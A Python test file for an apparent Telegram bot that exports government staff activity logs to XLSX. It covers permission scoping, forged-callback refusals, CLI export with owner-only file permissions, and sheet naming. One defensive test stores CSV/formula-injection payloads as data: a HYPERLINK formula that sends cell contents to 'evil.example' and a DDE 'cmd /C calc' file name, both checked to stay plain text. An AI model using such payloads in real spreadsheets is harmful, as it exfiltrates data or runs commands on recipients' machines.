"""/ekspor and ``sigap export activities``: the XLSX an office can take to e-Kinerja.

Sekretariat (BLW-SEK): Rosmawati (sekretaris camat, head of the unit) supervises Fitriani and
Susanti; Fitriani supervises Agus. Today is Tuesday 24 November 2026.

Agus's November, as logged:
    Mon 2 Nov   Mengagendakan surat masuk, 12 surat, 60 min, approved, target "surat masuk",
                two evidence files (a photo and agenda.pdf)
    Tue 10 Nov  Menata arsip, 40 berkas, 120 min, submitted, late
    Wed 11 Nov  deleted entry (never exported)
    Tue 24 Nov  Verifikasi 15 berkas KTP 1,5 jam, logged through the chat today
Susanti: Fri 20 Nov  Menyusun SPJ <belanja> & "ATK", 3 dokumen, 90 min, revision requested.
"""

from __future__ import annotations

import io
import stat
from datetime import UTC, date, datetime
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import select
from sqlmodel import col

from domain.access import Actor, Refusal, unit_export_refusal
from handlers.export import preset_period
from models.export import EmployeeExport
from models.tables import Activity, ActivityEvidence, AuditEntry, Employee, SkpTarget
from models.types import stored_id
from services.export import sheet_titles
from tests.data.test_cli import sigap
from tests.e2e.harness import eventually
from tests.e2e.saved_edit import wait_for_saved

ROSMAWATI = "197203181998032004"
FITRIANI = "198407222009012003"
AGUS = "197508121999031007"
SUSANTI = "199203032019032012"
SYAHRUL = "197605012002121003"


async def _ids(office) -> dict[str, int]:
    async with office.db.read() as session:
        return dict((await session.execute(select(col(Employee.nip), col(Employee.id)))).all())


async def _november(office, ids: dict[str, int]) -> None:
    stamp = datetime(2026, 11, 2, 3, tzinfo=UTC)
    async with office.db.write() as session:
        target = SkpTarget(
            employee_id=ids[AGUS],
            year=2026,
            rhk="Terlaksananya pengelolaan administrasi persuratan",
            indicator="Jumlah surat masuk yang diagendakan",
            target_quantity=450,
            unit="surat",
        )
        session.add(target)
        await session.flush()
        agenda = Activity(
            employee_id=ids[AGUS],
            work_date=date(2026, 11, 2),
            description="Mengagendakan surat masuk",
            quantity=12,
            output_unit="surat",
            minutes=60,
            target_id=target.id,
            status="approved",
            created_at=stamp,
        )
        session.add_all(
            [
                agenda,
                Activity(
                    employee_id=ids[AGUS],
                    work_date=date(2026, 11, 10),
                    description="Menata arsip",
                    quantity=40,
                    output_unit="berkas",
                    minutes=120,
                    late=True,
                    created_at=stamp,
                ),
                Activity(
                    employee_id=ids[AGUS],
                    work_date=date(2026, 11, 11),
                    description="Salah ketik, dihapus",
                    minutes=30,
                    deleted_at=stamp,
                    created_at=stamp,
                ),
                Activity(
                    employee_id=ids[SUSANTI],
                    work_date=date(2026, 11, 20),
                    description='Menyusun SPJ <belanja> & "ATK"',
                    quantity=3,
                    output_unit="dokumen",
                    minutes=90,
                    status="revision_requested",
                    created_at=stamp,
                ),
            ]
        )
        await session.flush()
        data_dir = office.settings.data_dir
        session.add_all(
            [
                ActivityEvidence(
                    activity_id=stored_id(agenda.id),
                    kind="photo",
                    telegram_file_id="AgACAgUAAxkBAAI-photo",
                    file_unique_id="AQADphoto",
                    stored_path=str(data_dir / "evidence" / "2026-11" / "AQADphoto.jpg"),
                ),
                ActivityEvidence(
                    activity_id=stored_id(agenda.id),
                    kind="document",
                    telegram_file_id="BQACAgUAAxkBAAI-doc",
                    file_unique_id="AgADdoc",
                    file_name="agenda.pdf",
                    stored_path=str(data_dir / "evidence" / "2026-11" / "AgADdoc.pdf"),
                ),
            ]
        )


def _workbook(office, message):
    """The XLSX the bot uploaded, as the emulator stored it."""
    assert message.document is not None, message.text
    stored = office.emulator.files.by_id[message.document["file_id"]]
    return load_workbook(io.BytesIO(stored.data))


def _rows(sheet) -> list[list[object]]:
    return [list(r) for r in sheet.iter_rows(values_only=True)]


async def _exports(office) -> list[AuditEntry]:
    async with office.db.read() as session:
        return list(
            (
                await session.execute(
                    select(AuditEntry)
                    .where(col(AuditEntry.action) == "activities.export")
                    .order_by(col(AuditEntry.id))
                )
            ).scalars()
        )


async def test_employee_exports_own_month(office) -> None:
    agus = await office.employee(AGUS)
    # In the menu of every employee, as a command and in the greeting.
    assert "/ekspor" in agus.last.text
    commands = office.emulator.commands(scope={"type": "chat", "chat_id": agus.chat_id})
    assert "ekspor" in [c["command"] for c in commands]
    ids = await _ids(office)
    await _november(office, ids)
    await agus.send("Verifikasi 15 berkas KTP 1,5 jam")
    await agus.wait_for(1)
    await agus.press("✅ Simpan")
    await wait_for_saved(agus)

    # A plain employee is not asked whose entries: straight to the period.
    await agus.send("/ekspor")
    [ask] = await agus.wait_for(1)
    assert "Periode" in ask.text
    assert ask.button_texts == ["Bulan ini", "Bulan lalu", "Triwulan ini", "Rentang lain…"]
    await agus.press("Bulan ini")
    [document] = await agus.wait_for(1)
    assert document.document["file_name"] == (f"kegiatan-{AGUS}-2026-11-01-2026-11-24.xlsx")
    assert document.caption.startswith(
        "📤 Kegiatan Anda, 1 November 2026 – 24 November 2026: 3 kegiatan dari 1 pegawai."
    )
    book = _workbook(office, document)
    assert book.sheetnames == ["Ringkasan", "Agus Salim Daulay"]
    summary = _rows(book["Ringkasan"])
    assert summary[0][0] == "Ekspor kegiatan 1 November 2026 – 24 November 2026"
    assert summary[2][:5] == ["Nama", "NIP", "Jabatan", "Kode unit", "Kegiatan"]
    assert summary[3] == [
        "Agus Salim Daulay", AGUS, "Pengadministrasi Perkantoran", "BLW-SEK",
        3, 270, 4.5, 1, 2, 0, 0, "Agus Salim Daulay",
    ]  # fmt: skip
    rows = _rows(book["Agus Salim Daulay"])
    assert rows[0] == [
        "Tanggal", "Uraian kegiatan", "Kuantitas", "Satuan", "Menit", "Target SKP (indikator)",
        "Status", "Terlambat", "Jumlah bukti", "Bukti dukung (berkas dan lokasi salinan)",
    ]  # fmt: skip
    assert rows[1] == [
        datetime(2026, 11, 2), "Mengagendakan surat masuk", 12, "surat", 60,
        "Jumlah surat masuk yang diagendakan", "Disetujui", None, 2,
        "foto (evidence/2026-11/AQADphoto.jpg)\nagenda.pdf (evidence/2026-11/AgADdoc.pdf)",
    ]  # fmt: skip
    assert rows[2] == [
        datetime(2026, 11, 10), "Menata arsip", 40, "berkas", 120, None,
        "Menunggu persetujuan", "ya", 0, None,
    ]  # fmt: skip
    assert rows[3][:7] == [
        datetime(2026, 11, 24), "Verifikasi 15 berkas KTP", 15, "berkas", 90, None,
        "Menunggu persetujuan",
    ]  # fmt: skip
    assert len(rows) == 4  # the deleted entry is not there
    [entry] = await _exports(office)
    assert entry.subject == f"employee:{AGUS}"
    assert entry.detail == {
        "start": "2026-11-01", "end": "2026-11-24", "employees": [AGUS], "entries": 3,
    }  # fmt: skip

    # Last month is empty: a polite text, no file, nothing audited.
    await agus.send("/ekspor")
    await agus.wait_for(1)
    await agus.press("Bulan lalu")
    [empty] = await agus.wait_for(1)
    assert empty.document is None
    assert "Tidak ada kegiatan Anda pada 1 Oktober 2026 – 31 Oktober 2026" in empty.text
    assert len(await _exports(office)) == 1

    # A typed range, with a mistake on the way.
    await agus.send("/ekspor")
    await agus.wait_for(1)
    await agus.press("Rentang lain…")
    await agus.wait_for(1)
    await agus.send_sticker()
    [sticker] = await agus.wait_for(1)
    assert "jawaban berupa teks" in sticker.text
    await agus.send("10/11/2026")
    [ask_end] = await agus.wait_for(1)
    assert "Selasa, 10 November 2026" in ask_end.text
    await agus.send("1/11/2026")
    [before] = await agus.wait_for(1)
    assert "tidak boleh sebelum" in before.text
    await agus.send("besok lusa kapan-kapan")
    [unreadable] = await agus.wait_for(1)
    assert "tidak bisa membaca tanggal" in unreadable.text
    await agus.send("20/11/2026")
    [ranged] = await agus.wait_for(1)
    rows = _rows(_workbook(office, ranged)["Agus Salim Daulay"])
    assert [r[1] for r in rows[1:]] == ["Menata arsip"]
    # The flow is over: an old period button is answered as stale.
    await agus.press("Bulan ini", message_id=ask.message_id, forge=True)
    await eventually(lambda: "tidak berlaku" in (agus.callback_answers[-1].get("text") or ""))


async def test_supervisor_exports_reports_and_is_refused_others(office) -> None:
    fitriani = await office.employee(FITRIANI)
    ids = await _ids(office)
    await _november(office, ids)
    await fitriani.send("/ekspor")
    [scope] = await fitriani.wait_for(1)
    # Her only report is Agus; she is not the unit's head (her supervisor is in the unit).
    assert scope.button_texts == [
        "Kegiatan saya", "Semua bawahan (1 orang)", "Agus Salim Daulay",
    ]  # fmt: skip
    version = scope.buttons[0][0][1].split(":")[1]

    # Forged: Susanti is not her report; the whole unit is not hers to export.
    await fitriani.press(callback_data=f"f:{version}:p:{ids[SUSANTI]}", forge=True)
    [refused, again] = await fitriani.wait_for(2)
    assert "tidak ditemukan di antara bawahan Anda" in refused.text
    assert "Agus Salim Daulay" in again.button_texts
    await fitriani.press(callback_data=f"f:{version}:unit", forge=True)
    [refused, again] = await fitriani.wait_for(2)
    assert "Hanya kepala unit" in refused.text
    assert await _exports(office) == []

    await fitriani.press("Agus Salim Daulay")
    await fitriani.wait_for(1)
    await fitriani.press("Bulan ini")
    [document] = await fitriani.wait_for(1)
    assert document.caption.startswith("📤 Kegiatan Agus Salim Daulay, 1 November 2026")
    book = _workbook(office, document)
    assert book.sheetnames == ["Ringkasan", "Agus Salim Daulay"]
    assert [r[1] for r in _rows(book["Agus Salim Daulay"])[1:]] == [
        "Mengagendakan surat masuk", "Menata arsip",
    ]  # fmt: skip
    [entry] = await _exports(office)
    assert entry.actor == f"tg:{fitriani.id}" and entry.subject == f"employee:{AGUS}"

    # Someone who is neither Agus nor his supervisor (a lurah elsewhere) gets nothing.
    syahrul = await office.employee(SYAHRUL)
    await syahrul.send("/ekspor")
    [other] = await syahrul.wait_for(1)
    other_version = other.buttons[0][0][1].split(":")[1]
    await syahrul.press(callback_data=f"f:{other_version}:p:{ids[AGUS]}", forge=True)
    [refused, _] = await syahrul.wait_for(2)
    assert "tidak ditemukan" in refused.text
    assert len(await _exports(office)) == 1


async def test_unit_head_exports_the_whole_unit(office) -> None:
    rosmawati = await office.employee(ROSMAWATI)
    ids = await _ids(office)
    await _november(office, ids)
    # Susanti left after logging in November: her entries are still exported. Fitriani left
    # too, with nothing logged: she is not listed.
    async with office.db.write() as session:
        for nip in (SUSANTI, FITRIANI):
            person = await session.get(Employee, ids[nip])
            assert person is not None
            person.active = False
    await rosmawati.send("/ekspor")
    [scope] = await rosmawati.wait_for(1)
    assert scope.button_texts[-1] == "Seluruh unit BLW-SEK"
    await rosmawati.press("Seluruh unit BLW-SEK")
    await rosmawati.wait_for(1)
    await rosmawati.press("Bulan ini")
    [document] = await rosmawati.wait_for(1)
    assert document.document["file_name"] == "kegiatan-BLW-SEK-2026-11-01-2026-11-24.xlsx"
    assert "Kegiatan unit BLW-SEK" in document.caption
    assert "3 kegiatan dari 2 pegawai" in document.caption
    book = _workbook(office, document)
    assert book.sheetnames == ["Ringkasan", "Agus Salim Daulay", "Susanti Halim, S.E."]
    summary = _rows(book["Ringkasan"])
    # Everyone in the unit is listed, those who logged nothing with zeros and no sheet.
    assert [r[0] for r in summary[3:]] == [
        "Agus Salim Daulay", "Dra. Rosmawati Siregar, M.AP", "Susanti Halim, S.E.",
    ]  # fmt: skip
    assert summary[4][4:] == [0, 0, 0, 0, 0, 0, 0, None]
    susanti = _rows(book["Susanti Halim, S.E."])
    assert susanti[1][1:8] == [
        'Menyusun SPJ <belanja> & "ATK"', 3, "dokumen", 90, None, "Perlu revisi", None,
    ]  # fmt: skip
    [entry] = await _exports(office)
    assert entry.subject == "unit:BLW-SEK"
    assert entry.detail["employees"] == [AGUS, SUSANTI]


async def test_english_export(office) -> None:
    agus = await office.employee(AGUS)
    ids = await _ids(office)
    await _november(office, ids)
    await agus.send("/bahasa")
    await agus.wait_for(1)
    await agus.press("🇬🇧 English")
    await agus.wait_for_edit()
    await agus.send("/export")
    await agus.wait_for(1)
    await agus.press("This month")
    [document] = await agus.wait_for(1)
    book = _workbook(office, document)
    assert book.sheetnames == ["Summary", "Agus Salim Daulay"]
    rows = _rows(book["Agus Salim Daulay"])
    assert rows[0][:2] == ["Date", "Activity"]
    assert rows[1][6] == "Approved" and rows[1][9].startswith("photo (evidence/")  # type: ignore[attr-defined]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik untuk detail")',
    "+62 812 3456 rapat",
    "-",
    "@SUM(A1:A9)",
    "\t=1+1",
]
DDE_NAME = "=cmd|' /C calc'!A0"


async def test_descriptions_and_file_names_that_look_like_formulas_stay_text(office) -> None:
    """What people type is written as text: Excel and LibreOffice show it and never run it."""
    agus = await office.employee(AGUS)
    ids = await _ids(office)
    stamp = datetime(2026, 11, 2, 3, tzinfo=UTC)
    async with office.db.write() as session:
        activities = [
            Activity(
                employee_id=ids[AGUS],
                work_date=date(2026, 11, 2 + n),
                description=text,
                quantity=2,
                output_unit="=2*3",
                minutes=30,
                created_at=stamp,
            )
            for n, text in enumerate(FORMULAS)
        ]
        session.add_all(activities)
        await session.flush()
        session.add(
            ActivityEvidence(
                activity_id=stored_id(activities[0].id),
                kind="document",
                telegram_file_id="BQACAgUAAxkBAAI-dde",
                file_unique_id="AgADdde",
                file_name=DDE_NAME,
                stored_path=str(office.settings.data_dir / "evidence" / "2026-11" / "AgADdde"),
            )
        )
    await agus.send("/ekspor")
    await agus.wait_for(1)
    await agus.press("Bulan ini")
    [document] = await agus.wait_for(1)
    sheet = _workbook(office, document)["Agus Salim Daulay"]
    rows = list(sheet.iter_rows(min_row=2))
    assert [(r[1].value, r[1].data_type) for r in rows] == [(t, "s") for t in FORMULAS]
    assert all(r[1].quotePrefix for r in rows)  # and edited in Excel, it stays text
    assert {(r[3].value, r[3].data_type) for r in rows} == {("=2*3", "s")}
    evidence = rows[0][9]
    assert evidence.data_type == "s"
    assert evidence.value == f"{DDE_NAME} (evidence/2026-11/AgADdde)"
    # Numbers stay numbers.
    assert {(r[2].value, r[2].data_type, r[4].value) for r in rows} == {(2, "n", 30)}
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


async def test_cli_export(office, tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("PYTHONPATH", str(Path(__file__).resolve().parents[2]))
    ids = await _ids(office)
    await _november(office, ids)
    env = {
        "DATABASE_URL": office.settings.database_url,
        "SIGAP_DATA_DIR": str(office.settings.data_dir),
    }
    out = tmp_path / "sek.xlsx"
    out.write_bytes(b"")
    out.chmod(0o644)  # an older file, readable by everyone: the export must not stay so
    code, stdout, err = await sigap(
        "export", "activities", "--unit", "blw-sek", "--from", "2026-11-01", "--to",
        "2026-11-30", "--out", str(out), env=env, cwd=tmp_path,
    )  # fmt: skip
    assert code == 0, err
    assert stdout.strip() == f"{out}: 3 kegiatan dari 2 pegawai."
    assert stat.S_IMODE(out.stat().st_mode) == 0o600  # personal data: the owner only
    book = load_workbook(out)
    assert book.sheetnames == ["Ringkasan", "Agus Salim Daulay", "Susanti Halim, S.E."]
    assert _rows(book["Agus Salim Daulay"])[1][9] == (
        "foto (evidence/2026-11/AQADphoto.jpg)\nagenda.pdf (evidence/2026-11/AgADdoc.pdf)"
    )
    [entry] = await _exports(office)
    assert entry.actor == "cli" and entry.subject == "unit:BLW-SEK"

    one = tmp_path / "agus.xlsx"
    code, stdout, err = await sigap(
        "export", "activities", "--unit", "BLW-SEK", "--from", "2026-11-01", "--to",
        "2026-11-30", "--out", str(one), "--employee", "19750812 199903 1 007", env=env,
        cwd=tmp_path,
    )  # fmt: skip
    assert code == 0, err
    assert load_workbook(one).sheetnames == ["Ringkasan", "Agus Salim Daulay"]

    async def fails(*args: str) -> str:
        code, stdout, err = await sigap("export", "activities", *args, env=env, cwd=tmp_path)
        assert code != 0 and stdout == "", (args, stdout)
        assert err.count("\n") == 1, err  # one line
        return err

    base = ["--from", "2026-11-01", "--to", "2026-11-30"]
    assert "Unit NOPE tidak ada" in await fails("--unit", "NOPE", *base, "--out", str(out))
    err = await fails("--unit", "BLW-SEK", *base, "--out", str(out), "--employee", SYAHRUL)
    assert f"NIP {SYAHRUL} tidak ada di unit BLW-SEK" in err
    err = await fails(
        "--unit", "BLW-SEK", "--from", "2026-10-01", "--to", "2026-10-31", "--out", str(out)
    )
    assert "Tidak ada kegiatan pada 2026-10-01 s.d. 2026-10-31" in err
    err = await fails(
        "--unit", "BLW-SEK", "--from", "2026-11-30", "--to", "2026-11-01", "--out", str(out)
    )
    assert "--to tidak boleh sebelum --from" in err
    assert "harus berakhiran .xlsx" in await fails(
        "--unit", "BLW-SEK", *base, "--out", str(tmp_path / "x.csv")
    )
    code, _, err = await sigap(
        "export", "activities", "--unit", "BLW-SEK", "--from", "1/11", "--to", "2026-11-30",
        "--out", str(out), env=env, cwd=tmp_path,
    )  # fmt: skip
    assert code == 2 and "'1/11' is not a date like 2026-12-24" in err
    assert len(await _exports(office)) == 2
    code, help_text, _ = await sigap("export", "activities", "--help", cwd=tmp_path)
    assert code == 0 and "usage: sigap export activities" in help_text and "--employee" in help_text


def test_sheet_titles_are_valid_and_unique() -> None:
    def person(name: str, nip: str) -> EmployeeExport:
        return EmployeeExport(1, nip, name, "", "BLW")

    titles = sheet_titles(
        [
            person("Muhammad Iqbal Rangkuti, S.STP, M.Si [Lurah]: Belawan/Bahagia", "1" * 18),
            person("Muhammad Iqbal Rangkuti, S.STP, M.Si [Lurah]: Belawan/Bahagia", "2" * 18),
            person("Muhammad Iqbal Rangkuti, S.STP, M.Si [Lurah]: Belawan/Bahagia", "2" * 18),
            person("Ringkasan", "3" * 18),
            person("*?", "198105142003121002"),
        ]
    )
    assert titles == [
        "Muhammad Iqbal Rangkuti, S.STP,",
        "Muhammad Iqbal Rangkuti, S 2222",
        "Muhammad Iqbal Rangkuti, S. (2)",
        "Ringkasan 3333",
        "198105142003121002",
    ]
    assert all(len(t) <= 31 and not set(t) & set("[]:*?/\\") for t in titles)


def test_preset_periods() -> None:
    today = date(2026, 11, 24)
    assert preset_period("this_month", today) == (date(2026, 11, 1), today)
    assert preset_period("last_month", today) == (date(2026, 10, 1), date(2026, 10, 31))
    assert preset_period("this_quarter", today) == (date(2026, 10, 1), today)
    assert preset_period("last_month", date(2026, 1, 5)) == (date(2025, 12, 1), date(2025, 12, 31))
    assert preset_period("tomorrow", today) is None


def test_unit_export_needs_the_head_with_the_supervisor_role() -> None:
    def actor(roles: set[str], employee_id: int | None = 5) -> Actor:
        return Actor(telegram_id=1, language="id", employee_id=employee_id, roles=frozenset(roles))

    head = actor({"employee", "supervisor"})
    assert unit_export_refusal(head, is_head=True) is None
    assert unit_export_refusal(head, is_head=False) is Refusal.NOT_FOUND
    assert unit_export_refusal(actor({"employee"}), is_head=True) is Refusal.NOT_FOUND
    assert unit_export_refusal(actor(set(), None), is_head=True) is Refusal.NOT_FOUND
